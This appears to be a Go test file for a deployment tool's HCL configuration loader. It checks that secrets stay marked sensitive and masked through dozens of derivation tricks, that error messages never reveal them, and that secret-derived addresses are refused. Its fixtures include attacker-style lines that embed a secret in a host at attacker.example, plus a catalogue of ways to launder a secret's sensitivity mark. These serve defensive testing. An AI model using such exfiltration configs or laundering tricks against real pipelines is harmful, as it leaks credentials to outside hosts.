package hclspec

import (
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"
)

// The secrets of these tests, and their forms that must never show.
const (
	testToken = "tok-9f8e7d6c5b4a"   // a sensitive variable
	testAWS   = "AKIAq8Zx-77889900w" // a CI secret in the environment
)

// secretWindows are the 4-character pieces of the secrets and of their simple transforms:
// none may appear in what the deployer shows.
func secretWindows() []string {
	var out []string
	for _, s := range []string{testToken, strings.ToUpper(testToken), reverse(testToken), testAWS, strings.ToLower(testAWS), strings.ToUpper(testAWS), reverse(testAWS)} {
		for i := 0; i+4 <= len(s); i++ {
			if w := s[i : i+4]; !slices.Contains(out, w) {
				out = append(out, w)
			}
		}
	}
	return out
}

func reverse(s string) string {
	r := []rune(s)
	slices.Reverse(r)
	return string(r)
}

// leakHeader declares the secret, a public variable and the helpers an attacker builds: an
// object from each character to itself (HCL drops a key's mark when it indexes an object).
const leakHeader = `
project = "x"
variable "token" {
  type      = string
  sensitive = true
}
variable "tag" { default = "v1" }
variable "public" { default = "public-default" }
locals {
  chars = { for c in split("", "abcdefghijklmnopqrstuvwxyz0123456789-ABCDEFGHIJKLMNOPQRSTUVWXYZ") : c => c }
  key   = substr(var.token, 0, 1)
  leak  = join("", [for i in range(16) : local.chars[substr(var.token, i, 1)]])
  cfg   = { url = var.token, port = 8080 }
}
`

// leaks are the ways tried to compute a value from a secret that does not carry its mark; each
// becomes an env value of the service, which must come out sensitive (shown as (sensitive),
// masked wherever its text appears).
var leaks = map[string]string{
	"DIRECT":      `var.token`,
	"UPPER":       `upper(var.token)`,
	"LOWER":       `lower(upper(var.token))`,
	"TITLE":       `title(var.token)`,
	"REV":         `strrev(var.token)`,
	"SUBSTR":      `substr(var.token, 4, 8)`,
	"REPLACE":     `replace(var.token, "-", "_")`,
	"REGEXREPL":   `regex_replace(var.token, "[0-9]", "#")`,
	"REGEX":       `regex("[0-9a-f]{6}", var.token)`,
	"REGEXALL":    `join(",", regexall("[0-9]", var.token))`,
	"FORMAT":      `format("x%sx", var.token)`,
	"FORMATLIST":  `join(",", formatlist("<%s>", split("-", var.token)))`,
	"SPLITJOIN":   `join(".", split("", var.token))`,
	"CHUNK":       `join("|", [for c in chunklist(split("", var.token), 4) : join("", c)])`,
	"JSON":        `jsonencode({ t = var.token })`,
	"JSONRT":      `jsondecode(jsonencode([var.token]))[0]`,
	"TRIM":        `trimprefix(var.token, "tok-")`,
	"TRIMSPACE":   `trimspace(" ${var.token} ")`,
	"INDENT":      `indent(2, "a\n${var.token}")`,
	"ELEMENT":     `element(split("-", var.token), 1)`,
	"LOOKUP":      `lookup({ "tok-9f8e7d6c5b4a" = "chosen-by-lookup" }, var.token, "none")`,
	"OBJINDEX":    `{ a = "AAAA", t = "TTTT" }[substr(var.token, 0, 1)]`,
	"OBJLOCALKEY": `{ a = "AAAA", t = "TTTT" }[local.key]`,
	"CHARS":       `join("", [for i in range(16) : local.chars[substr(var.token, i, 1)]])`,
	"CHARSLOCAL":  `local.leak`,
	"CHARSLATE":   `"${local.chars[substr(var.token, 0, 1)]}${local.chars[substr(var.token, 1, 1)]}${local.chars[substr(var.token, 2, 1)]}${local.chars[substr(var.token, 3, 1)]}"`,
	"COND":        `var.token == "x" ? "cond-yes-yes" : "cond-no-no"`,
	"TPLFOR":      `"%{for c in split("", var.token)}${c}%{endfor}"`,
	"TPLIF":       `"%{if substr(var.token, 0, 1) == "t"}first-is-t%{else}first-not-t%{endif}"`,
	"HEREDOC":     "<<EOT\n${var.token}\nEOT",
	"MERGE":       `merge({ a = var.token }, { b = "x" }).a`,
	"ZIPMAP":      `zipmap(["k"], [var.token]).k`,
	"KEYS":        `keys({ (var.token) = 1 })[0]`,
	"FORKEYS":     `join("", keys({ for c in split("", var.token) : c => 1 }))`,
	"SORT":        `join(",", sort(split("", var.token)))`,
	"DISTINCT":    `join("", distinct(split("", var.token)))`,
	"REVERSE":     `join("", reverse(split("", var.token)))`,
	"SLICE":       `join("", slice(split("", var.token), 0, 8))`,
	"COALESCE":    `coalesce(var.token, "x")`,
	"FLATTEN":     `join("", flatten([[var.token], ["zz"]]))`,
	"SETUNION":    `join(",", setunion(split("-", var.token), ["q"]))`,
	"TOSET":       `join(",", tolist(toset(split("-", var.token))))`,
	"CONCAT":      `join("", concat(split("-", var.token), ["end"]))`,
	"VALUES":      `values({ a = var.token })[0]`,
	"SPLAT":       `([{ v = var.token }][*].v)[0]`,
	"TUPLEINDEX":  `[var.token, "x"][0]`,
	"LENGTH":      `format("%08d", length(var.token))`,
	"INDEXFN":     `index(split("-", var.token), 1)`,
	"ENVAWS":      `env("AWS_SECRET_ACCESS_KEY")`,
	"ENVAWSUP":    `upper(env("AWS_SECRET_ACCESS_KEY"))`,
	"ENVVAR":      `env("DEPLOYER_VAR_token")`,
	"ENVCHARS":    `join("", [for i in range(4) : local.chars[substr(env("AWS_SECRET_ACCESS_KEY"), i, 1)]])`,
	"ENVGITHUB":   `env("GITHUB_TOKEN")`,
	"LOCALURL":    `local.cfg.url`,
	"PORTOFCFG":   `tostring(local.cfg.port)`,   // computed from an object that holds a secret: as a whole
	"ENVPUBLIC":   `env("DEPLOYER_VAR_public")`, // the environment is sensitive, whatever it holds
	"VARFROMENV":  `var.public`,                 // so is a variable's value read from it
}

// The attack that matters: these come out as the secret's text, unmarked by cty alone.
var leakValues = map[string]string{
	"DIRECT": testToken, "CHARS": testToken, "CHARSLOCAL": testToken, "OBJINDEX": "TTTT",
	"OBJLOCALKEY": "TTTT", "TPLFOR": testToken, "ENVAWS": testAWS, "ENVCHARS": "AKIA", "KEYS": testToken,
	"ENVVAR": testToken, "ENVGITHUB": "ghp-CI-token-0099",
}

func leakEnv() []string {
	return []string{"AWS_SECRET_ACCESS_KEY=" + testAWS, "DEPLOYER_VAR_token=" + testToken, "GITHUB_TOKEN=ghp-CI-token-0099", "DEPLOYER_VAR_public=public-from-env"}
}

// Every value computed from a secret, by any of the functions, expressions and tricks above, is
// sensitive; values that are not stay plain.
func TestSensitiveThroughEveryPath(t *testing.T) {
	dir := t.TempDir()
	src := leakHeader + "service \"web\" {\n  image = \"web:${var.tag}\"\n  env = {\n"
	for k, expr := range leaks {
		src += "    " + k + " = " + expr + "\n"
	}
	src += `    PLAIN = "plain-value"
    PUBLIC = var.tag
    PORT = local.cfg.port
    CHARPLAIN = local.chars["a"]
  }
}
`
	os.WriteFile(filepath.Join(dir, "main.hcl"), []byte(src), 0o644)
	p := load(t, Options{Dir: dir, Env: leakEnv(), Vars: []VarArg{{Name: "tag", Value: "v2"}}})
	s := p.Service("web")
	for k := range leaks {
		if !p.IsSensitive("web", "env."+k) {
			t.Errorf("env.%s = %s (%q) is not sensitive", k, leaks[k], s.Env[k])
		}
		if v := s.Env[k]; !slices.Contains(p.Derived, v) {
			t.Errorf("env.%s = %q is not among the texts masked in what comes from outside", k, v)
		}
	}
	for k, want := range leakValues {
		if s.Env[k] != want {
			t.Errorf("env.%s = %q, want %q: the attack does not do what the test thinks", k, s.Env[k], want)
		}
	}
	for _, k := range []string{"PLAIN", "PUBLIC", "PORT", "CHARPLAIN"} {
		if p.IsSensitive("web", "env."+k) {
			t.Errorf("env.%s = %q is marked sensitive", k, s.Env[k])
		}
	}
	if s.Env["PUBLIC"] != "v2" || s.Env["PORT"] != "8080" || s.Env["ENVPUBLIC"] != "public-from-env" || p.IsSensitive("web", "image") {
		t.Errorf("public values: %v, image sensitive %v", s.Env, p.IsSensitive("web", "image"))
	}
	t.Logf("%d derivations tried", len(leaks))
}

// An error never shows a secret: function errors that quote their arguments, validation
// messages that interpolate it (directly or rebuilt), semantic errors about a sensitive value,
// conversion and parse errors of a sensitive variable's value, and the source line of a
// variables file that holds one.
func TestSensitiveNeverInErrors(t *testing.T) {
	const (
		// Evaluating something computed from a secret failed: one error, naming nothing.
		collapsed = "A value computed from a secret is invalid"
		// A sensitive variable's value fails its rules: named, nothing more.
		failsRules = "does not pass its validation rules. It is sensitive"
		notAllowed = "Sensitive value not allowed here"
		inAddress  = "Sensitive value in an address"
	)
	cases := []struct {
		name, src string
		vars      []VarArg
		files     map[string]string
		want      string // a piece of the error that must show
	}{
		{"parseint", `locals { a = parseint(var.token, 10) }`, nil, nil, collapsed},
		{"tonumber", `locals { a = tonumber(var.token) }`, nil, nil, collapsed},
		{"tobool", `locals { a = tobool(var.token) }`, nil, nil, collapsed},
		{"jsondecode", `locals { a = jsondecode(var.token) }`, nil, nil, collapsed},
		{"jsondecode upper", `locals { a = jsondecode(upper(var.token)) }`, nil, nil, collapsed},
		{"regex_replace pattern", `locals { a = regex_replace("x", "(${var.token}", "y") }`, nil, nil, collapsed},
		{"chunklist size", `locals { a = chunklist(split("", var.token), -1) }`, nil, nil, collapsed},
		{"regex without a match", `locals { a = regex("^(x)$", var.token) }`, nil, nil, collapsed},
		{"regex pattern", `locals { a = regex(var.token, "x") }`, nil, nil, collapsed},
		{"file of a secret", `locals { a = file(var.token) }`, nil, nil, collapsed},
		{"file of env", `locals { a = file(env("AWS_SECRET_ACCESS_KEY")) }`, nil, nil, collapsed},
		{"format verb", `locals { a = format("%d", var.token) }`, nil, nil, collapsed},
		{"index", `locals { a = index(["a"], var.token) }`, nil, nil, collapsed},
		{"object index", `locals { a = { a = 1 }[var.token] }`, nil, nil, collapsed},
		{"map index", `locals { a = tomap({ a = 1 })[var.token] }`, nil, nil, collapsed},
		{"validation message", `variable "v" {
  type = string
  default = "x"
  sensitive = true
  validation {
    condition     = var.v == "never"
    error_message = "bad value ${var.v}"
  }
}`, []VarArg{{Name: "v", Value: testToken}}, nil, failsRules},
		{"validation message rebuilt", `variable "v" {
  type = string
  default = "x"
  sensitive = true
  validation {
    condition     = false
    error_message = join("", [for i in range(16) : { for c in split("", "abcdefghijklmnopqrstuvwxyz0123456789-") : c => c }[substr(var.v, i, 1)]])
  }
}`, []VarArg{{Name: "v", Value: testToken}}, nil, failsRules},
		{"validation message upper", `variable "v" {
  type = string
  default = "x"
  sensitive = true
  validation {
    condition     = false
    error_message = upper(var.v)
  }
}`, []VarArg{{Name: "v", Value: testToken}}, nil, failsRules},
		{"validation condition error", `variable "v" {
  type = string
  default = "x"
  sensitive = true
  validation {
    condition     = parseint(var.v, 10) > 0
    error_message = "not a number"
  }
}`, []VarArg{{Name: "v", Value: testToken}}, nil, failsRules},
		{"validation of a value from a vars file", `variable "v" {
  type = string
  sensitive = true
  validation {
    condition     = length(var.v) > 100
    error_message = "too short"
  }
}`, nil, map[string]string{"s.auto.vars.hcl": "v = \"" + testToken + "\"\n"}, failsRules},
		{"duration", `service "a" {
  image = "a"
  deploy { drain = var.token }
}`, nil, nil, notAllowed},
		{"size", `service "a" {
  image = "a"
  resources { memory = upper(var.token) }
}`, nil, nil, notAllowed},
		{"image", `service "a" { image = "bad image ${var.token}" }`, nil, nil, inAddress},
		{"container name", `service "a" {
  image = "a"
  container_name = "Bad Name ${var.token}"
}`, nil, nil, notAllowed},
		{"env key", `service "a" {
  image = "a"
  env = { (var.token) = "xxxxx" }
}`, nil, nil, notAllowed},
		{"sqlite path", `service "a" {
  image = "a"
  volume "data" { target = "/data" }
  sqlite "db" {
    volume = "data"
    path = "/${var.token}"
  }
}`, nil, nil, notAllowed},
		{"sensitive map of the wrong type", `variable "m" {
  type = map(number)
  sensitive = true
}`, []VarArg{{Name: "m", Value: `{ "` + testToken + `" = "` + testToken + `" }`}}, nil, "the value is sensitive, so the reason is not shown"},
		{"sensitive object with unknown keys", `variable "m" {
  type = object({ a = string })
  sensitive = true
}`, []VarArg{{Name: "m", Value: `{ ` + strings.ReplaceAll(testToken, "-", "_") + ` = "yyyyy" }`}}, nil, "not shown"},
		{"sensitive value that does not parse", `variable "n" {
  type = list(string)
  sensitive = true
}`, []VarArg{{Name: "n", Value: `["` + testToken + `"`}}, nil, "it is sensitive, so it is not shown"},
		{"sensitive value from the environment that does not parse", `variable "n" {
  type = list(string)
  sensitive = true
}`, nil, map[string]string{"": "DEPLOYER_VAR_n=[\"" + testToken + "\" !"}, "it is sensitive, so it is not shown"},
		{"vars file that does not parse", `variable "token2" {
  type = string
  sensitive = true
}`, nil, map[string]string{"s.auto.vars.hcl": "token2 = \"" + testToken + "\n"}, "s.auto.vars.hcl"},
		{"vars file with an undeclared name", `variable "token2" {
  type = string
  sensitive = true
}`, nil, map[string]string{"s.auto.vars.hcl": "token2 = \"" + testToken + "\"\nother = \"" + testToken + "\"\n"}, "no variable of that name"},
	}
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			dir := t.TempDir()
			env := leakEnv()
			for name, content := range c.files {
				if name == "" {
					env = append(env, content)
					continue
				}
				os.WriteFile(filepath.Join(dir, name), []byte(content), 0o644)
			}
			src := leakHeader + c.src + "\n"
			os.WriteFile(filepath.Join(dir, "main.hcl"), []byte(src), 0o644)
			res, diags := Load(Options{Dir: dir, Env: env, Vars: c.vars})
			text := strings.ReplaceAll(res.DiagnosticsText(diags), dir, "DIR") // a temporary name may hold a piece
			if !diags.HasErrors() || !strings.Contains(text, c.want) {
				t.Fatalf("want an error with %q, got:\n%s", c.want, text)
			}
			for _, w := range secretWindows() {
				if strings.Contains(text, w) {
					t.Errorf("the error shows %q:\n%s", w, text)
					break
				}
			}
		})
	}
	t.Logf("%d errors tried", len(cases))
}

// What names something the deployer contacts or reads during plan (an engine, its TLS files, a
// backup store, a build context) may not come from a secret: it would leave in a connection, a
// DNS query or an error. It is refused, naming the attribute, before anything is contacted.
func TestSensitiveAddressRefused(t *testing.T) {
	cases := []struct{ name, src, path string }{
		{"project name", `project_is_set_below = 1`, "project"},
		{"docker host", `docker { host = "tcp://${var.token}.attacker.example:2376" }`, "docker.host"},
		{"docker host from env", `docker { host = "ssh://${env("AWS_SECRET_ACCESS_KEY")}.attacker.example" }`, "docker.host"},
		{"proxy image", `docker { proxy_image = "${var.token}.attacker.example/deployer:1" }`, "docker.proxy_image"},
		{"engine host", `engine "e" { host = var.token }`, "engine.e.host"},
		{"engine host rebuilt", `engine "e" { host = "tcp://${local.leak}.attacker.example:2376" }`, "engine.e.host"},
		{"engine tls key", `engine "e" {
  host = "tcp://10.0.0.1:2376"
  tls { key = var.token }
}`, "engine.e.tls.key"},
		{"store endpoint", `backup_store "s3" {
  bucket = "b-b-b"
  endpoint = "https://${var.token}.attacker.example"
}`, "backup_store.s3.endpoint"},
		{"store bucket", `backup_store "s3" { bucket = var.token }`, "backup_store.s3.bucket"},
		{"store region", `backup_store "s3" {
  bucket = "b-b-b"
  region = env("GITHUB_TOKEN")
}`, "backup_store.s3.region"},
		{"store prefix", `backup_store "s3" {
  bucket = "b-b-b"
  prefix = upper(var.token)
}`, "backup_store.s3.prefix"},
		{"store directory", `backup_store "local" { directory = var.token }`, "backup_store.local.directory"},
		{"build context", `service "a" {
  image = "a"
  build { context = var.token }
}`, "service.a.build.context"},
		{"dockerfile", `service "a" {
  image = "a"
  build { dockerfile = "${local.leak}/Dockerfile" }
}`, "service.a.build.dockerfile"},
	}
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			dir := t.TempDir()
			src := leakHeader + c.src + "\n"
			if c.path == "project" {
				src = strings.Replace(leakHeader, `project = "x"`, `project = lower(var.token)`, 1)
			}
			os.WriteFile(filepath.Join(dir, "main.hcl"), []byte(src), 0o644)
			res, diags := Load(Options{Dir: dir, Env: leakEnv()})
			text := strings.ReplaceAll(res.DiagnosticsText(diags), dir, "DIR")
			if !strings.Contains(text, "Sensitive value in an address") || !strings.Contains(text, c.path+" is computed from a sensitive value") {
				t.Fatalf("want the address %s refused, got:\n%s", c.path, text)
			}
			for _, w := range secretWindows() {
				if strings.Contains(text, w) {
					t.Errorf("the error shows %q:\n%s", w, text)
					break
				}
			}
			// validate without the value refuses it too: it is sensitive, known or not.
			res, diags = Load(Options{Dir: dir, Unknown: true, Env: []string{"GITHUB_TOKEN=ghp-CI-token-0099", "AWS_SECRET_ACCESS_KEY=" + testAWS}})
			if text := res.DiagnosticsText(diags); !strings.Contains(text, c.path+" is computed from a sensitive value") {
				t.Errorf("validate without values: %s", text)
			}
		})
	}
	t.Logf("%d addresses tried", len(cases))
	// A notify URL may be a secret (a Slack webhook is one): the deployer contacts it only in
	// apply, and shows it by its host.
	dir := t.TempDir()
	os.WriteFile(filepath.Join(dir, "main.hcl"), []byte(leakHeader+"notify \"slack\" \"ops\" { url = \"https://hooks.slack.com/${var.token}\" }\n"), 0o644)
	if p := load(t, Options{Dir: dir, Env: leakEnv()}); !p.Sensitive["notify.slack.ops.url"] {
		t.Error("the notify URL is not sensitive")
	}
}

// A sensitive value shorter than 4 characters is refused, naming the variable (or the attribute
// computed from one), never showing the value: too short to mask without mangling output.
func TestShortSensitiveValueRefused(t *testing.T) {
	decl := `variable "pin" {
  type      = any
  sensitive = true
  default   = "long-enough-default"
}
`
	cases := []struct {
		name  string
		src   string
		vars  []VarArg
		env   []string
		files map[string]string
		want  string
	}{
		{"two characters from -var", "", []VarArg{{Name: "pin", Value: `"ab"`}}, nil, nil, "var.pin is sensitive, but its value (from -var pin)"},
		{"one character from the environment", "", nil, []string{`DEPLOYER_VAR_pin="z"`}, nil, "var.pin is sensitive, but its value (from environment variable DEPLOYER_VAR_pin)"},
		{"three characters from an auto vars file", "", nil, nil, map[string]string{"a.auto.vars.hcl": "pin = \"q7z\"\n"}, "var.pin is sensitive"},
		{"a short number", "", []VarArg{{Name: "pin", Value: "42"}}, nil, nil, "var.pin is sensitive"},
		{"a short element of a list", "", []VarArg{{Name: "pin", Value: `["long-enough", "xy"]`}}, nil, nil, "var.pin is sensitive"},
		{"a short default", strings.Replace(decl, "long-enough-default", "q7", 1), nil, nil, nil, "var.pin is sensitive, but its value (from default)"},
	}
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			dir := t.TempDir()
			for name, content := range c.files {
				os.WriteFile(filepath.Join(dir, name), []byte(content), 0o644)
			}
			src := "project = \"x\"\n" + decl + c.src + "\n"
			if strings.HasPrefix(c.src, "variable") {
				src = "project = \"x\"\n" + c.src
			}
			os.WriteFile(filepath.Join(dir, "main.hcl"), []byte(src), 0o644)
			res, diags := Load(Options{Dir: dir, Vars: c.vars, Env: c.env})
			text := strings.ReplaceAll(res.DiagnosticsText(diags), dir, "DIR")
			if !strings.Contains(text, "Sensitive value too short") || !strings.Contains(text, c.want) || !strings.Contains(text, "main.hcl:") {
				t.Fatalf("want the short value refused with %q, got:\n%s", c.want, text)
			}
			for _, v := range []string{`"ab"`, `"q7z"`, `"xy"`, `"q7"`, "= 42", `"z"`} {
				if strings.Contains(text, v) {
					t.Errorf("the error shows the value %s:\n%s", v, text)
				}
			}
		})
	}
	t.Logf("%d short values tried", len(cases))
	// A short value computed from a secret is fine: the deployer shows it as (sensitive) by where
	// it is, never by searching for its text; and a number computed from one is refused where
	// numbers are (it is no secret's place).
	dir := t.TempDir()
	os.WriteFile(filepath.Join(dir, "main.hcl"), []byte("project = \"x\"\n"+decl+`service "a" {
  image = "a"
  env = {
    X = substr(var.pin, 0, 2)
    Y = env("RUNNER_DEBUG")
  }
}
`), 0o644)
	p := load(t, Options{Dir: dir, Env: []string{"RUNNER_DEBUG=1"}})
	if s := p.Service("a"); s.Env["X"] != "lo" || s.Env["Y"] != "1" || !p.IsSensitive("a", "env.X") || !p.IsSensitive("a", "env.Y") {
		t.Errorf("short values computed from secrets: %v, sensitive %v", s.Env, p.Sensitive)
	}
	os.WriteFile(filepath.Join(dir, "main.hcl"), []byte("project = \"x\"\n"+decl+`service "a" {
  image = "a"
  backup {
    volumes = ["data"]
    keep = length(var.pin)
  }
  volume "data" { target = "/data" }
}
`), 0o644)
	res, diags := Load(Options{Dir: dir})
	if text := res.DiagnosticsText(diags); !strings.Contains(text, "Sensitive value not allowed here") || !strings.Contains(text, "service.a.backup.keep is computed from a sensitive value") {
		t.Errorf("a number computed from a secret: %s", text)
	}
	// The empty value (an optional secret not set), a bool, and 4 characters are fine.
	dir = t.TempDir()
	os.WriteFile(filepath.Join(dir, "main.hcl"), []byte(`project = "x"
variable "hook" {
  type      = string
  default   = ""
  sensitive = true
}
variable "flag" {
  type      = bool
  default   = true
  sensitive = true
}
variable "pin" {
  type      = string
  sensitive = true
}
service "a" {
  image = "a"
  env   = {
    PIN  = var.pin
    FLAG = tostring(var.flag)
    HOOK = var.hook
  }
}
`), 0o644)
	load(t, Options{Dir: dir, Vars: []VarArg{{Name: "pin", Value: "abcd"}}})
}

// The same in JSON syntax, whose strings are templates read only when evaluated.
func TestSensitiveThroughJSONSyntax(t *testing.T) {
	dir := t.TempDir()
	os.WriteFile(filepath.Join(dir, "main.hcl.json"), []byte(`{
  "project": "x",
  "variable": { "token": { "type": "string", "sensitive": true } },
  "locals": {
    "chars": "${ { for c in split(\"\", \"abcdefghijklmnopqrstuvwxyz0123456789-\") : c => c } }",
    "leak": "${join(\"\", [for i in range(16) : local.chars[substr(var.token, i, 1)]])}"
  },
  "service": { "web": {
    "image": "web:1",
    "env": {
      "LOCAL": "${local.leak}",
      "INLINE": "${local.chars[substr(var.token, 0, 1)]}${local.chars[substr(var.token, 1, 1)]}xx",
      "PLAIN": "plain-value"
    }
  } }
}`), 0o644)
	p := load(t, Options{Dir: dir, Env: leakEnv()})
	s := p.Service("web")
	if s.Env["LOCAL"] != testToken || s.Env["INLINE"] != "toxx" {
		t.Fatalf("the attack does not do what the test thinks: %v", s.Env)
	}
	for _, k := range []string{"LOCAL", "INLINE"} {
		if !p.IsSensitive("web", "env."+k) || !slices.Contains(p.Derived, s.Env[k]) {
			t.Errorf("env.%s is not sensitive", k)
		}
	}
	if p.IsSensitive("web", "env.PLAIN") {
		t.Error("env.PLAIN is sensitive")
	}
}
